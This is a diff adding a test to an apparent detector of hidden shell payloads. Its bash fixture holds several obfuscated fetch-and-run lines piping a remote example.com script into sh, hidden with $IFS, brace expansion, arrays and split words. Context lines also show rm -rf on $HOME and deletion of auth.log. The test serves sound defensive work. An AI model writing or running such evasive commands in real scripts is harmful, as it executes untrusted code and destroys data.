@@ -279,6 +279,30 @@ describe('findHiddenPayloads', () => {
     ]);
   });
 
+  it('works out $IFS, brace expansion, program look-ups and arrays, and joins words a line break cuts', () => {
+    const found = payloadsOf({
+      'scripts/a.sh': [
+        '#!/bin/bash',
+        'curl${IFS}-s${IFS}https://example.com/x.sh|sh',
+        '{curl,-s,https://example.com/x.sh}|sh',
+        'S=$(which bash)',
+        'cmd=(curl -s https://example.com/x.sh)',
+        '"${cmd[@]}" | $S',
+        'cu\\',
+        'rl -s https://example.com/x.sh | s\\',
+        'h',
+        'mkdir -p src/{lib,bin}',
+        '',
+      ].join('\n'),
+    }).filter((payload) => payload.how !== 'shell quoting');
+    assert.deepEqual(found.map((payload) => [payload.how, payload.text]), [
+      ['shell expansion', 'curl -s https://example.com/x.sh|sh'],
+      ['shell expansion', 'curl -s https://example.com/x.sh|sh'],
+      ['shell variables', 'curl -s https://example.com/x.sh | bash'],
+      ['split word', 'curl -s https://example.com/x.sh | sh'],
+    ]);
+  });
+
   it('fills in shell variables that the unit assigns a constant to, line by line', () => {
     const found = payloadsOf({
       'scripts/a.sh': 'T=$HOME\nLOG="/var/log/auth.log"\nNOW=$(date)\nrm -rf "$T"/*\nrm -f ${LOG}\necho "$NOW" "$PWD"\n',
